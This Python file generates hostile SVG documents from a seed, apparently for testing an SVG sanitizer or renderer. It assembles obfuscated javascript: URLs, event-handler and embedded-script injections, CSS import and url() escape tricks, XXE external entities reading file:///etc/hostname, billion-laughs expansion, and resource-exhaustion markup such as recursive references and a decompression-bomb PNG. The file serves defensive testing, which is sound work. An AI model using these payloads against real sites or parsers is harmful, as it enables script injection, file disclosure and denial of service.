"""SVG documents that try to run scripts, to send requests, or to keep the browser busy; one per seed."""

import base64
import random
import struct
import zlib

XHTML, SVG, XLINK, MATHML = ('http://www.w3.org/1999/xhtml', 'http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xlink',
                             'http://www.w3.org/1998/Math/MathML')
SHAPES = ['<rect x="10" y="10" width="80" height="60"', '<circle cx="50" cy="50" r="40"', '<path d="M5 5c30-9 60 80 90 90l-80-5z"',
          '<polyline points="5,5 50,90 95,5" fill="none" stroke="red"', '<line x1="0" y1="0" x2="90" y2="70" stroke="blue"',
          '<text x="10" y="50" font-size="30"']


class Hostile:
    """`elsewhere` is an address that must receive no request; scripts set window.ran."""

    def __init__(self, seed, elsewhere):
        self.random, self.elsewhere, self.count = random.Random(seed), elsewhere, 0

    def pick(self, *choices):
        return self.random.choice(choices)

    def number(self, low, high):
        return self.random.randint(low, high)

    def script(self):
        return self.pick("window.ran='%d'", "top.ran=parent.ran='%d'", "document.documentElement.ownerDocument.defaultView.ran='%d'",
                         "fetch('" + self.elsewhere + "/%d')", "location='" + self.elsewhere + "/%d'") % self.number(0, 999)

    def javascript(self):
        """Returns a javascript: address, with characters that address parsers ignore."""
        return self.pick('javascript:', 'JavaScript:', 'java&#9;script:', '&#10;javascript:', ' javascript:', 'javascript&#58;',
                         '&#1;javascript:', 'data:text/html,&lt;script&gt;', 'vbscript:') + self.script()

    def address(self):
        inner = '<svg xmlns="%s"><script>%s</script><image href="%s/inner.png" width="9" height="9"/></svg>' % (SVG, self.script(), self.elsewhere)
        return self.pick(self.elsewhere + '/%d.png' % self.number(0, 999), self.elsewhere.replace('http:', '') + '/x.svg#a', 'file:///etc/hostname',
                         'data:image/svg+xml;base64,' + base64.b64encode(inner.encode()).decode(), 'blob:null/0', '/x.png', 'x.svg#a',
                         'data:text/html;base64,' + base64.b64encode(b'<script>parent.ran=1</script>').decode(), self.javascript())

    def css_url(self):
        a = self.elsewhere + '/css%d' % self.number(0, 999)
        return self.pick('url(%s)', "url('%s')", 'u\\72l(%s)', 'url( %s#a )', '\\75 rl(%s)', 'image-set("%s" 1x)', 'src("%s")', 'url(//%s)',
                         'var(--a, url(%s))', 'cross-fade(url(%s), red)', 'URL(%s)', 'url(#a) url(%s)', 'url(&#34;%s&#34;)') % a

    def declaration(self):
        name = self.pick('fill', 'stroke', 'filter', 'mask', 'mask-image', 'clip-path', 'marker', 'marker-end', 'cursor', 'background',
                         'background-image', 'content', 'list-style-image', '--a', 'border-image', 'shape-outside', '-moz-binding', 'behavior',
                         'src', 'offset-path', 'font-family')
        return '%s: %s%s;' % (name, self.css_url(), self.pick('', ' !important'))

    def style_sheet(self):
        a = self.elsewhere + '/sheet%d' % self.number(0, 999)
        rules = [self.pick('@import url(%s);' % a, "@import '%s';" % a, '@\\69mport "%s";' % a, '@font-face { font-family: x; src: url(%s) }' % a,
                           '@namespace url(%s);' % a, 'rect, * { %s }' % self.declaration(), '@media all { * { %s } }' % self.declaration(),
                           ':host, :host(*) { %s position: fixed; inset: 0 }' % self.declaration(), '*::before { %s }' % self.declaration(),
                           '@supports (color: red) { * { %s } }' % self.declaration(), '@keyframes k { to { %s } } * { animation: k 1s }' % self.declaration(),
                           '} * { %s' % self.declaration(), '* { --a: { %s } }' % self.declaration(), 'g { &amp; rect { %s } }' % self.declaration(),
                           '/* */ * { %s } <!-- ' % self.declaration(), '@layer x { * { %s } }' % self.declaration(), '@charset "x";',
                           ']]&gt; </style><script>' + self.script() + '</script><style>') for _ in range(self.number(1, 3))]
        return self.pick('<style>%s</style>', '<style type="text/css" media="all">%s</style>', '<style><![CDATA[%s]]></style>',
                         '<h:style xmlns:h="' + XHTML + '">%s</h:style>', '<style media="all{} @import url(' + a + '); @media x">%s</style>') % ' '.join(rules)

    def handler(self):
        return '%s="%s"' % (self.pick('onload', 'onclick', 'onerror', 'onbegin', 'onfocusin', 'onmouseover', 'onpointerenter', 'ONLOAD', 'onanimationstart',
                                      'onunload', 'onresize', 'ontransitionend'), self.script())

    def running(self):
        """Returns markup that would run a script or send a request."""
        s, j, a = self.script(), self.javascript(), self.address()
        foreign = self.pick('<iframe src="%s"/>' % j, '<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"/>', '<frame src="%s"/>' % j,
                            '<img src="x" onerror="%s"/>' % s, '<img src="%s"/>' % a, '<object data="%s"/>' % a, '<embed src="%s"/>' % j,
                            '<script>%s</script>' % s, '<script src="%s"/>' % a, '<link rel="stylesheet" href="%s"/>' % a, '<base href="%s"/>' % a,
                            '<meta http-equiv="refresh" content="0;url=%s"/>' % a, '<video src="%s" onerror="%s" autoplay=""/>' % (a, s),
                            '<audio src="%s"/>' % a, '<body onload="%s"/>' % s, '<details open="" ontoggle="%s"/>' % s,
                            '<input autofocus="" onfocus="%s"/>' % s, '<form action="%s"><button autofocus=""/></form>' % j,
                            '<template shadowrootmode="open"><script>%s</script></template>' % s, '<portal src="%s"/>' % a,
                            '<svg xmlns="%s"><script>%s</script></svg>' % (SVG, s), '<a href="%s" ping="%s">x</a>' % (j, a))
        if not foreign.startswith('<svg'):
            foreign = foreign.replace(' ', ' xmlns="%s" ' % XHTML, 1) if ' ' in foreign.split('>')[0] else foreign.replace('>', ' xmlns="%s">' % XHTML, 1)
        return self.pick(foreign, foreign, '<foreignObject width="100" height="100">%s</foreignObject>' % foreign,
                         '<script>%s</script>' % s, '<script type="module"><![CDATA[%s]]></script>' % s, '<script href="%s"/>' % a,
                         '<x:script xmlns:x="%s">%s</x:script>' % (SVG, s), '<SCRIPT>%s</SCRIPT>' % s, '<handler type="text/javascript" ev:event="load" '
                         'xmlns:ev="http://www.w3.org/2001/xml-events">%s</handler>' % s, '<a xlink:href="%s"><rect width="50" height="50"/></a>' % j,
                         '<a href="#z"><animate attributeName="href" values="%s" dur="1s"/><text y="20">a</text></a>' % j,
                         '<set attributeName="onmouseover" to="%s"/>' % s, '<set attributeName="href" to="%s"/>' % j, '<image href="%s" width="50" height="50"/>' % a,
                         '<image xlink:href="%s" width="9" height="9" %s/>' % (a, self.handler()), '<use href="%s"/>' % a, '<use xlink:href="%s#a"/>' % a,
                         '<filter id="f%d"><feImage href="%s"/></filter>' % (self.number(0, 9), a), self.style_sheet(), self.style_sheet(),
                         '<g style="%s">%s/></g>' % (self.declaration().replace('"', '&#34;'), self.pick(*SHAPES[:5])),
                         '<rect width="50" height="40" fill="%s"/>' % self.css_url().replace('"', '&#34;'), '<rect width="40" height="40" %s/>' % self.handler(),
                         '<g xml:base="%s/">%s filter="url(x#f)"/><image href="y.png" width="9" height="9"/></g>' % (self.elsewhere, SHAPES[0]),
                         '<math xmlns="%s" href="%s"><mtext><img xmlns="%s" src="%s"/></mtext></math>' % (MATHML, j, XHTML, a),
                         '<title><img xmlns="%s" src="x" onerror="%s"/></title>' % (XHTML, s), '<metadata><script>%s</script></metadata>' % s,
                         '<discard href="#z" %s/>' % self.handler(), '<animate %s attributeName="x" dur="1s"/>' % self.handler(),
                         '<textPath path="M0 0h90" href="%s">t</textPath>' % a, '<mpath href="%s"/>' % a, '<linearGradient id="g" href="%s"/>' % a,
                         '<pattern id="p" href="%s" width="9" height="9"/>' % a, '<script id="stage">%s</script><g id="status" name="body"/>' % s,
                         '<switch><foreignObject requiredExtensions="%s">%s</foreignObject></switch>' % (XHTML, foreign))

    # ---- slow documents ----

    def name(self):
        self.count += 1
        return 'n%d' % self.count

    def reference(self, kind, target):
        """Returns a reference to a definition of a kind: as an attribute, a style, or a class."""
        properties = {'pattern': ['fill', 'stroke'], 'mask': ['mask'], 'clipPath': ['clip-path'], 'filter': ['filter'],
                      'marker': ['marker-start', 'marker-mid', 'marker-end', 'marker']}
        name = self.pick(*properties[kind])
        if name == 'marker' or self.number(0, 2) == 0:
            return 'style="%s: url(#%s)"' % (name, target)
        return '%s="url(#%s)"' % (name, target)

    def chain(self):
        """Returns levels of definitions, each with several references to the previous level."""
        kinds = self.pick(['use'], ['use', 'symbol'], ['pattern'], ['mask'], ['clipPath'], ['marker'], ['filter'],
                          ['use', 'pattern', 'mask', 'clipPath', 'marker', 'filter', 'symbol'])
        levels, times, before, text = self.number(2, 40), self.number(1, 20), self.name(), ''
        text += '<g id="%s"><rect width="20" height="20" stroke="red"/></g>' % before
        kind_before = 'use'
        for _ in range(levels):
            kind, here = self.pick(*kinds), self.name()
            if kind_before in ('use', 'symbol'):
                inner = '<use href="#%s" x="%d"/>' % (before, self.number(0, 9)) * times
            else:
                inner = ('<path d="M0 0l9 9l3 -9l20 4z" %s/>' % self.reference(kind_before, before)) * times
            if kind == 'filter':
                inner = '<feImage href="#%s"/><feTurbulence numOctaves="%d"/>' % (before if kind_before in ('use', 'symbol') else here, self.number(1, 10 ** 9)) * times
            size = {'pattern': ' width="%s" height="3" patternUnits="userSpaceOnUse"' % self.pick('3', '0.001', '1e9', '30'),
                    'marker': ' markerWidth="5" markerHeight="5" overflow="visible"'}.get(kind, '')
            text += '<%s id="%s"%s>%s</%s>' % ('g' if kind == 'use' else kind, here, size, inner, 'g' if kind == 'use' else kind)
            before, kind_before = here, kind
        if self.number(0, 9) == 0:
            text = '<g id="%s"><use href="#%s"/></g>' % (self.name(), before) + text
        if kind_before in ('use', 'symbol'):
            return self.pick('<defs>%s</defs>' % text, text) + '<use href="#%s"/>' % before
        return '<defs>%s</defs><g %s>%s</g>' % (text, self.reference(kind_before, before), (self.pick(*SHAPES[:5]) + '/>') * self.number(1, 5))

    def heavy(self):
        n, number = self.number, self.pick('1e30', '1e308', '-1e400', 'NaN', '0', '1e-300', '999999999999')
        filters = ['<feTurbulence baseFrequency="0.9" numOctaves="%d"/>' % n(1, 10 ** 9), '<feGaussianBlur stdDeviation="%s"/>' % number,
                   '<feMorphology operator="dilate" radius="%d"/>' % n(1, 10 ** 6), '<feConvolveMatrix order="%d" kernelMatrix="%s"/>' % (n(3, 60), '1 ' * 3600),
                   '<feTile/>', '<feDisplacementMap scale="%s" in2="SourceGraphic"/>' % number, '<feOffset dx="%s"/>' % number]
        deep = self.pick(100, 300, 2000, 20000)
        png = b'\x89PNG\r\n\x1a\n' + b''.join(struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d)) for k, d in (
            (b'IHDR', struct.pack('>IIBBBBB', 60000, 60000, 1, 0, 0, 0, 0)), (b'IDAT', zlib.compress(bytes(10 ** 5))), (b'IEND', b'')))
        return self.pick(
            self.chain(), self.chain(), self.chain(), self.chain(),
            '<g>' * deep + SHAPES[0] + '/>' + '</g>' * deep, '<svg>' * (deep % 1900) + SHAPES[0] + '/>' + '</svg>' * (deep % 1900),
            (self.pick(*SHAPES[:5]) + '/>') * n(1, 3000), '<path d="M0 0' + ''.join('L%d %d' % (n(0, 100), n(0, 100)) for _ in range(n(1, 3000))) + '"/>',
            '<path stroke="red" stroke-dasharray="%s" stroke-width="%s" d="M0 0L100 100%s"/>' % (self.pick('1e-9', '0.0001 0.0001', '1e30'), number, 'L0 9L99 3' * n(1, 300)),
            '<filter id="f" x="%s" y="-9" width="%s" height="99">%s</filter>' % (number, self.pick('1e9', '3', number), ''.join(self.pick(*filters) for _ in range(n(1, 12)))) +
            ('<g filter="url(#f)">' + SHAPES[0] + '/></g>') * n(1, 30),
            '<text font-size="%s" textLength="%s">%s</text>' % (number, number, 'Wgy' * n(1, 900)), '<g transform="scale(%s)">%s/></g>' % (number, self.pick(*SHAPES[:5])),
            '<g transform="matrix(1 2 2 4 0 0)">%s/></g>' % self.pick(*SHAPES[:5]), '<rect width="%s" height="%s" rx="%s"/>' % (number, number, number),
            '<circle cx="%s" r="%s" stroke-width="%s" stroke="red"/>' % (number, number, number), '<svg viewBox="0 0 %s %s">%s/></svg>' % (number, number, SHAPES[0]),
            '<style>%s</style>' % ''.join(self.pick('* * * * * * * * *', '* ~ * ~ * ~ * ~ *', ':not(:not(:not(*)))', ':has(:has(*) ~ *)', 'g:nth-child(2n+1) > * + *',
                                                    ':is(:is(*, g) *, *) *') + '{ fill: #%06x }' % n(0, 0xffffff) for _ in range(n(1, 400))) + (SHAPES[0] + '/>') * n(1, 300),
            '<image width="50" height="50" href="data:image/png;base64,%s"/>' % base64.b64encode(png).decode(),
            '<path d="%s"/>' % self.pick('M0 0a1e-300 1e300 0 0 1 5 5', 'M1e999 0L-1e999 5', 'MMMM', 'M0,0 C', 'm' + '1e308 ' * 40, 'M0 0' + 'a9 9 9 01.5.5' * 999),
            '<use href="#loop" id="loop"/>', '<g id="ring"><use href="#ring"/></g>', '<pattern id="own" width="9" height="9"><rect width="5" height="5" fill="url(#own)"/></pattern>'
            '<rect width="50" height="50" fill="url(#own)"/>', '<filter id="big" filterRes="99999"><feFlood/></filter>' + SHAPES[1] + ' filter="url(#big)"/>')

    def document(self):
        head = self.pick(*[''] * 20, '<?xml version="1.0"?>', '<?xml-stylesheet href="%s/pi.css"?>' % self.elsewhere,
                         '<?xml-stylesheet type="text/xsl" href="%s/pi.xsl"?>' % self.elsewhere, '<!DOCTYPE svg SYSTEM "%s/x.dtd">' % self.elsewhere,
                         '<!DOCTYPE svg [<!ENTITY e "<script>%s</script>">]>' % self.script(), '<!DOCTYPE svg [<!ENTITY e SYSTEM "%s/e.xml">]>' % self.elsewhere,
                         '<!DOCTYPE svg [%s]>' % ''.join('<!ENTITY %s "%s">' % (chr(97 + k), ('&%s;' % chr(96 + k)) * 10 if k else 'lol') for k in range(9)))
        parts = [self.pick(self.running, self.running, self.running, self.heavy)() for _ in range(self.number(1, 4))]
        if '<!ENTITY e' in head:
            parts.append('<g>&%s;</g>' % ('e' if 'SYSTEM' in head or 'script' in head else 'i'))
        shapes = [self.pick(*SHAPES[:5]) + '/>' for _ in range(self.number(0, 3))]
        content = parts + shapes
        self.random.shuffle(content)
        for k in range(len(content)):
            if self.number(0, 3) == 0:
                content[k] = self.pick('<g>%s</g>', '<defs>%s</defs>', '<switch>%s</switch>', '<a>%s</a>', '<symbol id="a">%s</symbol><use href="#a"/>',
                                       '<svg>%s</svg>', '<mask id="a">%s</mask>', '<text>%s</text>', '<marker id="a">%s</marker>') % content[k]
        space = 'xmlns="%s" xmlns:xlink="%s"' % (SVG, XLINK) if self.number(0, 9) else ''
        return '%s<svg %s viewBox="0 0 100 100" %s>%s</svg>' % (head, space, self.handler() if self.number(0, 4) == 0 else '', '\n'.join(content))


def hostile_svg(seed, elsewhere):
    return Hostile(seed, elsewhere).document()
